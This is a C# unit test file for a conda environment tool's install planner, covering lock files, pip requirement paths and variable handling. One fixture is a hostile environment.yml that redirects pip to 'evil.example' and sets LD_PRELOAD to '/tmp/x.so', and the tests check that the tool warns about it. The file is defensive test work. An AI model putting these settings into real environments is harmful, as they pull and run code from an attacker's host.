using System;
using System.IO;
using System.Linq;
using CondaEnv.Adapters;
using CondaEnv.Formats.Catalog;
using CondaEnv.Install;
using CondaEnv.Snapshots;
using CondaEnv.Specs.Channels;
using CondaEnv.Tests.Machines;
using Xunit;

namespace CondaEnv.Tests.Install;

/// <summary>What the tools get.</summary>
public sealed class InstallPlannerTests : IDisposable
{
    private const string Url = "https://user:geheim@host.example/chan/linux-64/zlib-1.3-0.conda";

    private static readonly string s_hash = new('a', 64);

    private readonly FakeMachine _machine = new();
    private readonly Workspace _workspace = new();

    public void Dispose()
    {
        _workspace.Dispose();
        _machine.Dispose();
    }

    [Fact]
    public void A_lock_becomes_a_list_of_addresses_with_hashes_that_nobody_else_may_read()
    {
        InstallPlan plan = Plan("conda-lock.yml", Lock("linux-64"));
        Assert.Equal((CreateStyle.Exact, InstallInput.Explicit, 1), (plan.Style, plan.Input, plan.PackageCount));
        Assert.Equal($"@EXPLICIT\n{Url}#sha256:{s_hash}\n", File.ReadAllText(plan.File));
        Assert.Equal($"idna @ https://files.example/idna-3.10.whl --hash=sha256:{s_hash}\n", File.ReadAllText(plan.Requirements!));
#if NET && !NETSTANDARD_BUILD
        if (!OperatingSystem.IsWindows())
        {
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(plan.File));
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(_workspace.Folder));
        }
#endif
    }

    [Fact]
    public void Exact_packages_for_another_platform_are_refused_with_both_named()
    {
        CondaEnvException error = Assert.Throws<CondaEnvException>(() => Plan("conda-lock.yml", Lock("osx-arm64")));
        Assert.Equal(CondaErrorKind.FormatUnsupported, error.Kind);
        Assert.Contains("osx-arm64", error.Message, StringComparison.Ordinal);
        Assert.Contains("linux-64", error.Message, StringComparison.Ordinal);
        Assert.Equal(CondaErrorKind.FormatUnsupported, Assert.Throws<CondaEnvException>(() => Plan("conda-lock.yml", Lock("linux-64"), solve: true)).Kind);
    }

    [Fact]
    public void A_file_of_pips_gets_a_Python()
    {
        InstallPlan plan = Plan("requirements.txt", "--no-binary :all:\nidna[all]>=3.10; python_version > '3'\n");
        Assert.Equal((CreateStyle.Friendly, InstallInput.Yaml), (plan.Style, plan.Input));
        string[] lines = File.ReadAllLines(plan.File);
        Assert.Contains("  - python", lines);
        Assert.Contains(lines, l => l.Contains("-r ", StringComparison.Ordinal) && l.Contains(_machine.At("files/requirements.txt"), StringComparison.Ordinal));
    }

    /// <summary>pip splits such a line as a shell does.</summary>
    [Theory]
    [InlineData("sp ace.txt", "-r 'PATH'")]
    [InlineData("it's.txt", "-r 'PATH'")]
    public void A_path_with_a_blank_reaches_pip(string name, string line)
    {
        InstallPlan plan = Plan(name, "--no-binary :all:\nidna[all]>=3.10; python_version > '3'\n");
        string expected = line.Replace("PATH", _machine.At("files/" + name).Replace("'", "'\"'\"'"));
        CondaEnvFile file = new EnvironmentFileReader(static () => new YamlDotNetReader(), ChannelConfiguration.Default, static e => throw e).Read(plan.File);
        Assert.Contains(file.Dependencies, d => d.SourceText == expected);
    }

    [Fact]
    public void A_file_that_conda_would_not_know_by_its_name_gets_another()
    {
        Assert.Equal(_machine.At("files/environment.yml"), Plan("environment.yml", "dependencies: [zlib]\n").File);
        InstallPlan json = Plan("environment.json", "{\"name\": \"e\", \"dependencies\": [\"zlib=1.3\"]}");
        Assert.Equal("environment.yml", Path.GetFileName(json.File));
        Assert.StartsWith(_workspace.Folder, json.File, StringComparison.Ordinal);
    }

    [Fact]
    public void A_file_from_somebody_says_what_it_makes_the_tool_do()
    {
        InstallPlan plan = Plan(
            "environment.yml",
            """
            channels: [conda-forge]
            dependencies:
              - python=3.12=0
              - pip:
                  - --index-url https://evil.example/simple
                  - --trusted-host evil.example
                  - -r other.txt
                  - -e ./src
                  - idna==3.10
                  - --pre
            variables:
              LD_PRELOAD: /tmp/x.so
              path: /tmp
              PIP_INDEX_URL: https://evil.example/simple
              GREETING: hello
            """);
        Assert.Collection(
            plan.Warnings,
            static w => Assert.EndsWith("what runs: '--index-url https://evil.example/simple', '--trusted-host evil.example', '-r other.txt', '-e ./src'.", w, StringComparison.Ordinal),
            static w => Assert.EndsWith("are used: 'LD_PRELOAD', 'path', 'PIP_INDEX_URL'.", w, StringComparison.Ordinal));
        Assert.Empty(Plan("plain.yml", "channels: [conda-forge]\ndependencies: [python=3.12=0, {pip: [idna==3.10, --pre]}]\nvariables: {GREETING: hello}\n").Warnings);
    }

    /// <summary>record.json has the names alone; an empty value is another value.</summary>
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Variables_of_a_record_have_their_values_or_are_not_set(bool includeSecret)
    {
        string prefix = _machine.Env("envs/one");
        _machine.File("envs/one/conda-meta/zlib-1.3-0.json", "{\"name\":\"zlib\",\"version\":\"1.3\",\"build\":\"0\",\"build_number\":0,\"depends\":[],\"channel\":\"https://host.example/chan/linux-64\",\"subdir\":\"linux-64\",\"url\":\"https://host.example/chan/linux-64/zlib-1.3-0.conda\"}");
        _machine.File("envs/one/conda-meta/state", "{\"env_vars\":{\"GREETING\":\"hello\",\"PATH\":\"/evil\"}}");
        EnvironmentService service = new(_machine.Machine(), static () => new YamlDotNetReader(), static _ => { }, static _ => { });
        CondaEnvironment environment = service.Locate(prefix);
        CondaEnvRecord record = service.Record(environment, _machine.At("records"), new RecordRequest { IncludeSecret = includeSecret }, default);
        InstallPlan plan = new InstallPlanner(service, _workspace, "linux-64", solve: false).Of(service.ImportFile(record.Path));
        Assert.Equal(CreateStyle.Exact, plan.Style);
        Assert.Equal(includeSecret ? "GREETING=hello, PATH=/evil" : "", string.Join(", ", plan.Variables.Select(static v => v.Key + "=" + v.Value)));
        Assert.Contains(plan.Warnings, static w => w.Contains("'PATH'", StringComparison.Ordinal));
        Assert.Equal(!includeSecret, plan.Warnings.Any(static w => w.Contains("no values for 2 variables", StringComparison.Ordinal)));
    }

    private InstallPlan Plan(string name, string text, bool solve = false)
    {
        EnvironmentService service = new(_machine.Machine(), static () => new YamlDotNetReader(), static _ => { }, static _ => { });
        return new InstallPlanner(service, _workspace, "linux-64", solve).Of(service.ImportFile(_machine.File("files/" + name, text)));
    }

    private static string Lock(string platform) =>
        $$"""
        version: 1
        metadata:
          content_hash: {}
          channels: [{url: conda-forge, used_env_vars: []}]
          platforms: [{{platform}}]
          sources: [environment.yml]
        package:
        - {name: zlib, version: "1.3", manager: conda, platform: {{platform}}, dependencies: {}, url: "{{Url}}", hash: {sha256: {{s_hash}}}, category: main, optional: false}
        - {name: idna, version: "3.10", manager: pip, platform: {{platform}}, dependencies: {}, url: "https://files.example/idna-3.10.whl", hash: {sha256: {{s_hash}}}, category: main, optional: false}
        """;
}
